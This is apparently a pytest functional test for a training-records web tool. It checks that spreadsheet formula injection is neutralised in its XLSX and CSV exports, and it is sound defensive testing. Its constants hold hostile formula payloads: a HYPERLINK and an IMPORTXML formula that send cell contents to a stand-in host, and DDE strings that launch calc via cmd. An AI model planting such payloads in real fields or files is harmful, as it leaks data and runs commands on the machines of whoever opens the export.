"""Spreadsheet formula injection, tried through every XLSX and CSV export as its users
download them: a learner whose LMS name is a formula, an HR roster whose department
and position are formulas, a course whose titles are, and a trainer's session whose
title, place, materials and remarks are. Each file is opened as a spreadsheet
program would read it: no cell of an XLSX is a formula (every hostile text is a string
cell marked as text by Excel's quote prefix, its value unchanged) and every CSV field
that would start a formula begins with an apostrophe."""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from lti_tool.db import get_db
from lti_tool.hr import exports
from lti_tool.lti.models import Context, Platform
from lti_tool.records.models import Employee
from tests.functional.hr.conftest import Crowd, complete
from tests.functional.practical.conftest import SAMPLE, csrf

NAME = '=HYPERLINK("http://x/?leak="&A1,"Click")'
DEPARTMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
POSITION = "+1+1"
COURSE_ZH, COURSE_EN = "=1+1 基础课程", "-1+1 Basics"
SESSION_TITLE, PLACE = "+SUM(1,2) 课堂", "-2+3+cmd|' /C calc'!A0"
MATERIALS, REMARKS = '=IMPORTXML(CONCAT("http://x/?",A1),"//a")', "@迟到"
STARTS = ("=", "+", "-", "@", "\t", "\r")
ZONE = ZoneInfo("Asia/Shanghai")


@pytest.fixture
def settings_overrides(settings_overrides, tmp_path):
    """The sample library, its course titled with formulas."""
    library = tmp_path / "library"
    shutil.copytree(SAMPLE, library)
    course = library / "basics" / "course.yaml"
    text = course.read_text(encoding="utf-8").replace("zh-CN: 基础课程", f"zh-CN: '{COURSE_ZH}'", 1)
    course.write_text(text.replace("en: Basics", f"en: '{COURSE_EN}'", 1), encoding="utf-8")
    settings_overrides["content_path"] = library
    return settings_overrides


@pytest.fixture
def crowd(platform, app):
    with get_db(app).sessionmaker.begin() as session:  # the operator trusts this LMS for employee numbers
        session.scalar(select(Platform).where(Platform.issuer == platform.issuer)).identity_trusted = True
    platform.add_user("mallory", NAME, person_sourcedid="E9001")
    course = platform.add_resource_link("基础课程", custom={"item_kind": "course", "item_id": "basics"})
    hr = platform.add_resource_link("培训管理", custom={"item_kind": "records", "item_id": "hr"})
    people = Crowd(platform, course, hr)
    yield people
    people.close()


def no_formula_xlsx(data: bytes) -> set[str]:
    """Every cell's text, after checking that none is or would become a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    texts = set()
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    if cell.value.lstrip().startswith(STARTS) and not re.fullmatch(r"[+-]?[\d.]+", cell.value):
                        assert cell.quotePrefix, (cell.coordinate, cell.value)
                    texts.add(cell.value)
    return texts


def no_formula_csv(data: bytes) -> set[str]:
    fields = {field for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for field in row}
    for field in fields:
        assert not field.lstrip().startswith(STARTS) or re.fullmatch(r"[+-]?[\d.]+", field), field
    return fields


def test_hostile_text_reaches_every_export_as_text(crowd, platform, app, db_session):
    base = platform.tool_base_url
    crowd("mallory")
    # HR's roster gives mallory a department and position that are formulas too.
    hr = crowd("hr")
    hr.get(f"{base}/hr/roster")
    roster = f'employee number,name,department,position\nE9001,"{NAME.replace(chr(34), chr(34) * 2)}","{DEPARTMENT}",{POSITION}\n'
    planned = hr.session.post(f"{base}/hr/roster", timeout=15, data={"csrf_token": csrf(hr)},
                              files={"file": ("staff.csv", roster.encode(), "text/csv")})
    assert planned.status_code == 200, planned.text[:500]
    ticket = re.search(r'name="ticket" value="([^"]+)"', planned.text).group(1)
    assert hr.session.post(f"{base}/hr/roster/apply", timeout=15,
                           data={"csrf_token": csrf(hr), "ticket": ticket}).status_code == 200
    employee = db_session.scalar(select(Employee).where(Employee.employee_number == "E9001"))
    assert (employee.name, employee.department, employee.position) == (NAME, DEPARTMENT, POSITION)

    # The trainer schedules a session whose title, place and materials are formulas,
    # and marks mallory with a formula as remarks.
    session_link = platform.add_resource_link("课堂", custom={"item_kind": "session", "item_id": "basics/class"})
    trainer = crowd("instructor", link=session_link)
    trainer.follow("schedule")
    start = datetime.now(ZONE) - timedelta(minutes=5)
    trainer.submit("schedule-form", {
        "content_session_id": "class", "title": SESSION_TITLE, "starts": f"{start:%Y-%m-%dT%H:%M}",
        "ends": f"{start + timedelta(hours=2):%Y-%m-%dT%H:%M}", "timezone": "Asia/Shanghai", "place": PLACE,
        "trainer_name": "王芳", "capacity": "12", "materials": MATERIALS, "course_id": "basics"})
    session_id = int(trainer.page.url.rstrip("/").rsplit("/", 1)[1])
    trainer.get(f"{base}/sessions/{session_id}/attendance")
    form = trainer.page.form("attendance-form")
    field = next(n for n, _v in form.fields if n.startswith("status-"))
    trainer.submit(form, {field: "present", f"remarks-{field.split('-')[1]}": REMARKS})
    sheet = trainer.session.get(f"{base}/sessions/{session_id}/sign-in-sheet.xlsx", timeout=30)
    assert sheet.status_code == 200
    texts = no_formula_xlsx(sheet.content)
    assert {NAME, PLACE, REMARKS} <= texts and any(SESSION_TITLE in t for t in texts)

    complete(app, platform, "mallory")  # results and a certificate, as the features write them
    learner = crowd("mallory")
    own = learner.session.get(f"{base}/records/me.xlsx", timeout=30)
    assert own.status_code == 200
    texts = no_formula_xlsx(own.content)
    assert {NAME, DEPARTMENT, POSITION, COURSE_ZH} <= texts
    hours = [c.value for row in load_workbook(io.BytesIO(own.content)).active.iter_rows() for c in row
             if isinstance(c.value, (int, float))]
    assert hours, "numbers stay numbers"

    file = hr.session.get(f"{base}/hr/employees/{employee.id}.xlsx", timeout=30)
    assert file.status_code == 200 and {NAME, DEPARTMENT, COURSE_ZH} <= no_formula_xlsx(file.content)

    # HR's bulk export of certificates: both manifests.
    hr.get(f"{base}/hr/certificates")
    started = hr.session.post(f"{base}/hr/exports", timeout=15, data={"csrf_token": csrf(hr)})
    assert started.status_code == 200
    while exports.drain(app):
        pass
    job = re.search(r"/hr/exports/(\d+)", started.url).group(1)
    download = hr.session.get(f"{base}/hr/exports/{job}/download", timeout=30)
    assert download.status_code == 200
    with zipfile.ZipFile(io.BytesIO(download.content)) as z:
        fields = no_formula_csv(z.read("manifest.csv"))
        assert {"'" + NAME, "'" + DEPARTMENT, "'" + COURSE_ZH, "'" + COURSE_EN} <= fields
        texts = no_formula_xlsx(z.read("manifest.xlsx"))
        assert {NAME, DEPARTMENT, COURSE_ZH, COURSE_EN} <= texts
        issued = load_workbook(io.BytesIO(z.read("manifest.xlsx"))).active["H2"]
        assert issued.is_date, "dates stay dates"

    # The trainer's archive of the course run: every CSV in it.
    runs = platform.add_resource_link("培训班次", custom={"item_kind": "records", "item_id": "runs"})
    trainer = crowd("instructor", link=runs)
    context_id = db_session.scalars(select(Context.id).order_by(Context.id)).first()
    archive = trainer.session.get(f"{base}/records/runs/{context_id}/basics/archive.zip", timeout=60)
    assert archive.status_code == 200
    with zipfile.ZipFile(io.BytesIO(archive.content)) as z:
        every = {name: no_formula_csv(z.read(name)) for name in z.namelist() if name.endswith(".csv")}
    assert {"'" + NAME, "'" + DEPARTMENT} <= every["03-roster.csv"]
    assert {"'" + NAME, "'" + DEPARTMENT, "'" + SESSION_TITLE} <= every["04-attendance.csv"]
    assert {"'" + SESSION_TITLE, "'" + MATERIALS} <= every["02-materials.csv"]
    assert "'" + NAME in every["05-quiz-scores.csv"] and "'" + NAME in every["06-practical-results.csv"]
    assert "8" in every["05-quiz-scores.csv"]  # a score is a plain number, not neutralised
